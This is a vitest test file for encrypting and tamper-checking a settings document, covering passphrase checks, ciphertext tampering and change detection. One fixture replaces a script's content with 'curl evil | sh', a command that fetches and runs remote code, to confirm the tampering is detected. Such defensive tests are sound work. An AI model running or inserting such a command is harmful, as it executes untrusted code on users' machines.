import { describe, expect, it } from 'vitest';
import { partsOf, readDocument } from '../../src/migration/moving-in/settings/document.js';
import { marksOf } from '../../src/migration/moving-in/settings/marks.rules.js';
import { openJson, sealJson } from '../../src/migration/moving-in/settings/seal.js';

const head = { format: 'holdfast-settings', version: 1 };

describe('an encrypted document', () => {
  it('opens only with its passphrase and unchanged', async () => {
    const sealed = await sealJson('a long passphrase', { repositories: { x: { passphrase: 'ünsafe' } } });
    expect(await openJson('a long passphrase', sealed)).toEqual({
      repositories: { x: { passphrase: 'ünsafe' } },
    });
    const wrong = { reason: { code: 'settings_seal_wrong' } };
    await expect(openJson('another passphrase', sealed)).rejects.toMatchObject(wrong);
    const turned = Buffer.from(sealed.text, 'base64');
    turned[0] = (turned[0] ?? 0) ^ 1;
    await expect(
      openJson('a long passphrase', { ...sealed, text: turned.toString('base64') }),
    ).rejects.toMatchObject(wrong);
    await expect(
      openJson('a long passphrase', { ...sealed, tag: sealed.tag.slice(0, 8) }),
    ).rejects.toMatchObject(wrong);
  }, 30_000);

  it('cannot request a higher cost than Holdfast uses', async () => {
    const sealed = { ...(await sealJson('a long passphrase', {})), n: 2 ** 24 };
    await expect(readDocument({ ...head, sealed }, 'a long passphrase')).rejects.toMatchObject({
      reason: { code: 'settings_document_invalid' },
    });
  }, 30_000);
});

it('names objects changed, added or removed after the encryption', async () => {
  const document = {
    ...head,
    made_at: '2026-01-01T00:00:00.000Z',
    made_by: '1.0.0',
    scripts: [
      { name: 'dump', content: 'true' },
      { name: 'other', content: 'true' },
    ],
    notifications: [{ name: 'on call' }],
  };
  const marks = marksOf(partsOf(document), document);
  const secrets = { notifications: { 'on call': { service_url: 'json://127.0.0.1/' } } };
  const sealed = await sealJson('a long passphrase', { secrets, marks });
  const read = (changes: object) =>
    readDocument(JSON.parse(JSON.stringify({ ...document, sealed, ...changes })), 'a long passphrase');
  const parts = await read({ notifications: [{ name: 'on call' }] });
  expect(parts.find(({ section }) => section.name === 'notifications')?.objects[0]?.value).toMatchObject({
    service_url: 'json://127.0.0.1/',
  });
  const changes: [object, string[]][] = [
    [{ scripts: [{ name: 'dump', content: 'curl evil | sh' }, document.scripts[1]] }, ['scripts dump']],
    [{ scripts: [...document.scripts, { name: 'new', content: 'true' }] }, ['scripts new']],
    [{ scripts: [document.scripts[1]] }, ['scripts dump']],
    [{ notifications: [{ name: 'on call', monitor_all_repositories: false }] }, ['notifications on call']],
    [{ made_by: '2.0.0' }, ['head document']],
  ];
  for (const [change, objects] of changes)
    await expect(read(change)).rejects.toMatchObject({
      reason: { code: 'settings_changed_since_sealed', params: { objects } },
    });
}, 60_000);

it('gives objects with the same name different keys', async () => {
  const parts = await readDocument({ ...head, notifications: [{ name: 'a' }, { name: 'a' }] }, undefined);
  const keys = parts.flatMap(({ objects }) => objects.map(({ key }) => key));
  expect(keys).toEqual(['a', 'a#2']);
});
